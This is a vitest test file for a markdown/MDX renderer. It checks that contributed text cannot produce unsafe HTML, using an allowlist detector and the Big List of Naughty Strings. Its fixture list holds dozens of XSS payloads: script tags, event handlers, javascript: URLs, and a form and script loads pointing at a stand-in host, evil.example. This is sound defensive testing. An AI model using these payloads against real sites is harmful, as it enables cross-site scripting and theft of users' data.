import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import type { Dialect } from '../../src/prose/parse.ts';
import { proseFaults } from '../../src/prose/check.ts';
import { plain, render } from '../../src/prose/render.ts';

const dialects: readonly Dialect[] = ['mdx', 'markdown'];

/** Every tag that contributed text can come out as. */
const TAGS = new Set([
  ...[
    'p',
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'em',
    'strong',
    'del',
    'a',
    'ul',
    'ol',
    'li',
    'blockquote',
    'hr',
    'br',
    'code',
    'pre',
  ],
  ...['table', 'thead', 'tbody', 'tr', 'th', 'td', 'div', 'details', 'summary', 'figure', 'figcaption', 'img'],
]);
const ATTRIBUTES = new Set(['href', 'class', 'src', 'alt', 'loading', 'start', 'align']);

/** What stands in HTML that contributed text must never give. A sign “<” in words is written as an entity. */
function harmIn(html: string): string[] {
  return [...html.matchAll(/<\/?([^\s>/]*)([^>]*)>?/gu)].flatMap(([whole, tag = '', rest = '']) => {
    const attributes = [...rest.matchAll(/([^\s=]+)="([^"]*)"/gu)];
    const leftover = rest.replaceAll(/\s*[^\s=]+="[^"]*"/gu, '').trim();
    const bad = attributes.filter(
      ([, name = '', value = '']) =>
        !ATTRIBUTES.has(name) || (/^(?:href|src)$/u.test(name) && !leadsSomewhere(name, value)),
    );
    return TAGS.has(tag) && bad.length === 0 && leftover === '' ? [] : [whole];
  });
}

const leadsSomewhere = (name: string, value: string) =>
  value === '' || /^\/(?!\/)/u.test(value) || (name === 'href' && /^(?:https:\/\/|mailto:|tel:|#)/u.test(value));

const HARMFUL = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src="x" onerror="alert(1)" />',
  '<img src=x onerror=alert(1)>',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi href="javascript:alert(1)">a</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="https://evil.example" onclick="alert(1)">a</a>',
  '<form action="https://evil.example"><input name="nhs-number" /></form>',
  '<base href="https://evil.example/" />',
  '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  '<details open ontoggle="alert(1)">a</details>',
  '<p style="background:url(https://evil.example)">a</p>',
  '<div class="note" id="app">a</div>',
  '<Note onclick="alert(1)">\n\na\n\n</Note>',
  '<Note style="x" class="y" id="z">\n\na\n\n</Note>',
  '<Figure src="javascript:alert(1)" alt="a" />',
  '<Figure src="https://evil.example/track.png" alt="a" />',
  '<Figure src="//evil.example/track.png" alt="a" />',
  '<Figure src="/media/a.png" alt=\'" onerror="alert(1)\' />',
  '<Expander title="</summary><script>alert(1)</script>">\n\na\n\n</Expander>',
  '![a](javascript:alert(1))',
  '![a](https://evil.example/track.png)',
  '![a](data:image/svg+xml;base64,AAAA)',
  '![a][b]\n\n[b]: https://evil.example/track.png',
  '[a](javascript:alert(1))',
  '[a](https://www.example.org "\\" onmouseover=\\"alert(1)")',
  '[a][b]\n\n[b]: data:text/html,x "\\" onmouseover=\\"alert(1)"',
  'a[^1]\n\n[^1]: <script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '| <script>alert(1)</script> |\n|---|\n| [a](javascript:x) |',
  "import fs from 'node:fs'\n\nexport const a = 1\n\n{process.exit(1)} a",
  '<Note {...{ dangerouslySetInnerHTML: 1 }} title={alert(1)}>\n\na\n\n</Note>',
  '<constructor type="element" tagName="script" />',
  '<toString /><__proto__ /><hasOwnProperty />',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe.each(HARMFUL)('%j does no harm, even where nobody checked it', (text) => {
  test.each(dialects)('in %s', (dialect) => {
    expect(harmIn(render(text, dialect))).toEqual([]);
  });
});

test('code in a text is not run, and its braces show nothing but their words', () => {
  expect(render('There are {globalThis.ran = 1} tools.', 'mdx')).toBe('<p>There are globalThis.ran = 1 tools.</p>');
  expect('ran' in globalThis).toBe(false);
});

test('raw HTML in an answer shows as the words that it is', () => {
  expect(render('Hello <b>there</b>', 'markdown')).toBe('<p>Hello &#x3C;b>there&#x3C;/b></p>');
});

test('the look-out for harm sees harm', () => {
  for (const html of [
    '<script>',
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<img src="https://x">',
    '<p x>',
    '<b>',
  ])
    expect(harmIn(html), html).toHaveLength(1);
});

const corpus = fileURLToPath(new URL('../../../shared/corpora/naughty-strings/blns.json', import.meta.url));

describe.skipIf(!existsSync(corpus))('the big list of naughty strings', () => {
  const strings = existsSync(corpus) ? (JSON.parse(readFileSync(corpus, 'utf8')) as string[]) : [];

  test.each(dialects)('gives no tag but ours in %s, alone or among other words', (dialect) => {
    expect(strings.length).toBeGreaterThan(400);
    for (const text of strings)
      for (const around of [
        text,
        `A [link](${text}) and **${text}**.`,
        `- ${text}\n\n## ${text}`,
        `[a]: ${text}\n\n[a]`,
      ])
        expect(harmIn(render(around, dialect)), around).toEqual([]);
  });

  test('each can be checked and made plain words without a crash', () => {
    for (const text of strings) {
      expect(() => dialects.map((dialect) => proseFaults(text, dialect))).not.toThrow();
      expect(typeof plain(text)).toBe('string');
    }
  });
});
